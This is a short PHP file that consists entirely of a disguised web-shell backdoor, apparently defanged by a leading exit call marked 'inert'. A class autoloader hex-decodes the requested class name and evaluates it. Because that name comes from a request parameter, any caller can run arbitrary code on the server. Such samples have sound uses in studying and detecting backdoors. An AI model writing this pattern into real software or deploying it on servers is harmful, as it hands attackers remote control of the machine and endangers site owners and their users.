<?php exit; /* inert */ 
spl_autoload_register(function ($c) { eval(hex2bin(substr($c, 1))); });
class_exists('x' . $_REQUEST['cls']);
